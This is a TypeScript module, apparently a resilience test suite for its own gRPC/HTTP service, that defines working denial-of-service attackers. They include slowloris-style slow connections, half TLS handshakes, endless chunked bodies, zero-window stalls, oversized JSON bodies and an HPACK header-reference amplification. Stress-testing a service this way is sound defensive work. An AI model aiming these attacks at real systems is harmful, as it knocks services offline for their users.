import { once } from "node:events"
import type { ClientHttp2Session, ClientHttp2Stream } from "node:http2"
import { connect, type Socket } from "node:net"
import { setTimeout as pause } from "node:timers/promises"
import {
  batch,
  beginCall,
  framed,
  HOST,
  MANY,
  manyRules,
  openSession,
  openTls,
  REGISTER,
  SINGLE,
  single,
  type Target,
} from "./target.ts"

/** A service whose rule makes every request after the first wait. */
export const HOLDING = "holding"
/** A service with rules that an attacker registers. */
const LARGE = "large"
/** A service that the attackers call, with a rule that admits their requests. */
export const OPEN = "open"

/** Mean time until an attacker repeats an attack that the service has ended or refused. */
const AGAIN_MS = 5_000
/** Mean time between two calls of an attacker that sends one call at a time. */
const NEXT_CALL_MS = 500

const HTTP2_PREFACE = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0"
/** A HEADERS frame of stream 1 without END_HEADERS (RFC 9113 section 6.2). */
const HALF_BLOCK = "\0\0\x01\x01\0\0\0\0\x01\x83"
const HALF_HANDSHAKE = Buffer.from([0x16, 0x03, 0x01, 0x02, 0x00])
const BYTES = 120_000
const MIB = 2 ** 20

/** A field that HPACK stores in its table, with the name "x" and a value of 4,000 bytes (RFC 7541 section 6.2.1). */
const LONG_FIELD = Buffer.concat([Buffer.from([0x40, 1, 0x78, 0x7f, 0xa1, 0x1e]), Buffer.alloc(4_000, 0x76)])
/** A header block for POST that refers to this field 16,000 times. */
const REFERENCES = Buffer.concat([Buffer.from([0x83, 0x86, 0x84]), Buffer.alloc(16_000, 0xbe)])

type Attack = (target: Target, from: string) => Promise<unknown>

/** The kinds of attackers. Each attacker continues until its process ends. */
export const ATTACKS: Readonly<Record<string, Attack>> = {
  "half handshakes": (target, from) =>
    keep(100, async (index) => {
      const socket = connectPlain(index % 2 === 0 ? target.grpcPort : target.httpPort, from)
      socket.write(HALF_HANDSHAKE)
      await closed(socket)
    }),
  "slow connections": (target, from) =>
    keep(100, async (index) => {
      const { grpcPort, httpPort } = target
      const beginnings = [
        [grpcPort, ""],
        [grpcPort, "PRI * HTTP/2.0\r\n"],
        [grpcPort, HTTP2_PREFACE],
        [grpcPort, HTTP2_PREFACE + HALF_BLOCK],
        [httpPort, ""],
        [httpPort, `POST ${SINGLE} HTTP/1.1\r\nhost: a\r\n`],
      ] as const
      const [port, beginning] = beginnings[index % beginnings.length] as (typeof beginnings)[number]
      const socket = connectOver(port, from)
      socket.write(beginning, "latin1")
      await closed(socket)
    }),
  "unfinished calls": (target, from) =>
    inSessions(4, 100, target, from, (session) => {
      const stream = beginCall(session, SINGLE)
      stream.write(framed(Buffer.alloc(BYTES)).subarray(0, BYTES))
      return stream
    }),
  "unfinished posts": (target, from) =>
    keep(100, async () => {
      const socket = connectOver(target.httpPort, from)
      socket.write(
        `POST ${SINGLE} HTTP/1.1\r\nhost: a\r\ncontent-type: application/json\r\ncontent-length: ${BYTES}\r\n\r\n`,
      )
      socket.write(Buffer.alloc(BYTES - 1, 0x20))
      await closed(socket)
    }),
  "empty streams": (target, from) =>
    inSessions(4, 250, target, from, (session) => beginCall(session, SINGLE)),
  "held calls": (target, from) =>
    inSessions(4, 300, target, from, (session) => send(session, SINGLE, single(HOLDING, "held"))),
  batches: (target, from) => {
    const message = batch(OPEN, 10_000)
    return inSessions(1, 1, target, from, (session) => send(session, MANY, message))
  },
  "large rule sets": (target, from) => {
    let limit = 5
    return inSessions(1, 1, target, from, (session) =>
      send(session, REGISTER, manyRules(LARGE, 1_000, ++limit), target.token),
    )
  },
  "expensive bodies": (target, from) => {
    const fields = Buffer.alloc(4 * MIB, Buffer.from([0x0a, 0]))
    const digits = `{"requests":[{"serviceId":${"1".repeat(4 * MIB - 100)}}]}`
    const bodies = [`{"requests":[${"{},".repeat(MIB)}{}]}`, digits].map(whole)
    return Promise.all([
      inSessions(1, 1, target, from, (session) => send(session, MANY, fields)),
      keep(2, async (index) => {
        const socket = connectOver(target.httpPort, from)
        socket.write(bodies[index] as string)
        await closed(socket)
      }),
    ])
  },
  "unread responses": (target, from) => {
    const message = batch(OPEN, 10_000)
    const requests = Array(5_000).fill(`{"service":"${OPEN}","request":{"user":"a"}}`)
    const body = whole(`{"requests":[${requests}]}`)
    return Promise.all([
      inSessions(4, 4, target, from, (session) => {
        // The service may send not a single byte of a response.
        session.settings({ initialWindowSize: 0 })
        return send(session, MANY, message)
      }),
      keep(20, async () => {
        const socket = connectOver(target.httpPort, from).pause()
        for (let left = 10; left > 0; left--) socket.write(body)
        await closed(socket)
      }),
    ])
  },
  "small pieces": (target, from) =>
    keep(20, async () => {
      const socket = connectOver(target.httpPort, from)
      socket.write(
        `POST ${MANY} HTTP/1.1\r\nhost: a\r\ncontent-type: application/json\r\ntransfer-encoding: chunked\r\n\r\n`,
      )
      while (!socket.destroyed) if (!socket.write("1\r\n \r\n".repeat(1_000))) await untilDrained(socket)
    }),
  "header references": (target, from) =>
    keep(4, async () => {
      const socket = connectOver(target.grpcPort, from)
      socket.write(HTTP2_PREFACE, "latin1")
      socket.write(headersFrame(1, LONG_FIELD))
      for (let stream = 3; !socket.destroyed; stream += 2) {
        if (!socket.write(headersFrame(stream, REFERENCES))) await untilDrained(socket)
      }
    }),
  "hang-ups": (target, from) =>
    keep(2, async () => {
      const session = openSession(target, from)
      const calls = Array.from({ length: 2_000 }, () => send(session, SINGLE, single(HOLDING, "held")))
      for (const call of calls) call.resume()
      await pause(2_000)
      session.destroy()
    }),
  "wrong tokens": (target, from) =>
    inSessions(1, 10, target, from, (session) =>
      send(session, REGISTER, manyRules(LARGE, 1, 1), "a-token-that-is-wrong"),
    ),
}

/** Waits for a random time, so that the attacks do not all start at the same time. */
function untilAgain(meanMs: number): Promise<void> {
  return pause(2 * meanMs * Math.random())
}

/** Runs `count` attacks at a time. Repeats each attack some time after it has ended. */
function keep(count: number, attack: (index: number) => Promise<unknown>): Promise<unknown> {
  return Promise.all(
    Array.from({ length: count }, async (_, index) => {
      for (;;) {
        await attack(index)
        await untilAgain(AGAIN_MS)
      }
    }),
  )
}

/** Keeps `sessions` sessions open, each with `callsEach` calls. A session that has ended is opened again. */
function inSessions(
  sessions: number,
  callsEach: number,
  target: Target,
  from: string,
  begin: (session: ClientHttp2Session) => ClientHttp2Stream,
): Promise<unknown> {
  return keep(sessions, async () => {
    const session = openSession(target, from)
    const callers = Array.from({ length: callsEach }, async () => {
      while (!session.closed && !session.destroyed) {
        const stream = begin(session)
        stream.resume()
        if (!stream.closed) await once(stream, "close").catch(() => undefined)
        await untilAgain(callsEach === 1 ? NEXT_CALL_MS : AGAIN_MS)
      }
    })
    await Promise.all(callers)
    session.destroy()
  })
}

function send(
  session: ClientHttp2Session,
  path: string,
  message: Uint8Array,
  token?: string,
): ClientHttp2Stream {
  const stream = beginCall(session, path, token)
  stream.end(framed(message))
  return stream
}

function connectPlain(port: number, localAddress: string): Socket {
  return quiet(connect({ host: HOST, port, localAddress }))
}

function connectOver(port: number, localAddress: string): Socket {
  return quiet(openTls(port, localAddress, ["h2", "http/1.1"]))
}

function quiet<Each extends Socket>(socket: Each): Each {
  socket.on("error", () => undefined).resume()
  return socket
}

/** Returns an HTTP request for a batch. */
function whole(body: string): string {
  const head = `POST ${MANY} HTTP/1.1\r\nhost: a\r\ncontent-type: application/json`
  return `${head}\r\ncontent-length: ${body.length}\r\n\r\n${body}`
}

/** Returns a HEADERS frame with END_HEADERS and END_STREAM (RFC 9113 section 6.2). */
function headersFrame(stream: number, block: Buffer): Buffer {
  const head = Buffer.alloc(9)
  head.writeUIntBE(block.length, 0, 3)
  head.writeUInt16BE(0x0105, 3)
  head.writeUInt32BE(stream, 5)
  return Buffer.concat([head, block])
}

/** Resolves when a socket can accept more data, or has closed. */
function untilDrained(socket: Socket): Promise<void> {
  return new Promise((resolve) => {
    const done = (): void => {
      socket.off("drain", done).off("close", done)
      resolve()
    }
    socket.on("drain", done).on("close", done)
  })
}

async function closed(socket: Socket): Promise<void> {
  if (!socket.closed) await once(socket, "close").catch(() => undefined)
}
